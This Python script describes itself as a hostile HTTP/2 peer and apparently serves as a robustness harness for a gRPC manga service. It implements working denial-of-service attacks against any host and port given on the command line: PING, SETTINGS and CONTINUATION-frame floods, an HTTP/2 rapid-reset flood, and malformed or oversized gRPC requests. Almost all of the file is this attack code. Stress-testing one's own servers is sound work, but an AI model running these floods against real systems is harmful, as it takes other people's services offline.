"""A hostile HTTP/2 peer: sends one of the known attacks and says how the connection ended.

It needs the packages of `requirements.txt`.

    h2_attacks.py HOST PORT ATTACK
"""

import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

# How long an attack goes on that nobody ends.
PATIENCE_S = 50

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALL = [
    (":method", "POST"), (":scheme", "http"), (":path", "/manga.MangaService/GetManga"), (":authority", "x"),
    ("content-type", "application/grpc"), ("te", "trailers"),
]


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def flood(peer, piece):
    """Sends a piece again and again, until the peer has had enough."""
    peer.sendall(PREFACE + frame(4))
    until = time.monotonic() + PATIENCE_S
    while time.monotonic() < until:
        peer.sendall(piece * 100)
    return "it took everything"


def heads(conn):
    return conn.encoder.encode(CALL)


def ping(peer):
    return flood(peer, frame(6, payload=b"12345678"))


def settings(peer):
    return flood(peer, frame(4))


def continuation(peer):
    head = heads(h2.connection.H2Connection())
    peer.sendall(PREFACE + frame(4) + frame(1, 0, 1, head))
    until = time.monotonic() + PATIENCE_S
    while time.monotonic() < until:
        peer.sendall(frame(9, 0, 1, b"\x00\x01a\x01b" * 100))
    return "it took everything"


def rapid_reset(peer):
    conn = h2.connection.H2Connection()
    conn.initiate_connection()
    peer.sendall(conn.data_to_send())
    until = time.monotonic() + PATIENCE_S
    while time.monotonic() < until:
        for _ in range(100):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, CALL)
            conn.reset_stream(stream)
        peer.sendall(conn.data_to_send())
    return "it took everything"


def one(peer, fields, body=None):
    """The answer to one request."""
    conn = h2.connection.H2Connection()
    conn.initiate_connection()
    conn.send_headers(1, fields, end_stream=body is None)
    if body is not None:
        conn.send_data(1, body, end_stream=True)
    peer.sendall(conn.data_to_send())
    return answered(peer, conn)


def message(length, body=b""):
    return b"\x00" + struct.pack(">I", length) + body


def long_head(peer):
    return one(peer, CALL + [(f"x-{number}", "y" * 1000) for number in range(17)])


def huge_head(peer):
    return one(peer, CALL + [(f"x-{number}", "y" * 1000) for number in range(100)])


def no_grpc(peer):
    return one(peer, CALL[:4] + [("content-type", "application/json")])


def bad_lengths(peer):
    """A message that claims to be longer than four megabytes."""
    return one(peer, CALL, message((4 << 20) + 1, b"x" * 100))


def half_a_message(peer):
    return one(peer, CALL, message(5, b"abc"))


def two_messages(peer):
    return one(peer, CALL, message(0) * 2)


def unknown_method(peer):
    return one(peer, [(name, "/manga.MangaService/Burn" if name == ":path" else value) for name, value in CALL])


def unknown_encoding(peer):
    return one(peer, CALL + [("grpc-encoding", "br")], message(0))


def get(peer):
    return one(peer, [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "x")])


def answered(peer, conn):
    """The first answer's status, and the gRPC code if there is one."""
    while True:
        data = peer.recv(65536)
        if not data:
            return "closed"
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                head = {name.decode(): value.decode() for name, value in event.headers}
                return f"{head[':status']} {head.get('grpc-status', '')}".strip()
            if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                return "reset"
        peer.sendall(conn.data_to_send())


def main():
    host, port, attack = sys.argv[1:]
    with socket.create_connection((host, int(port)), timeout=60) as peer:
        try:
            print(globals()[attack](peer))
        except (BrokenPipeError, ConnectionResetError):
            print("closed")


main()
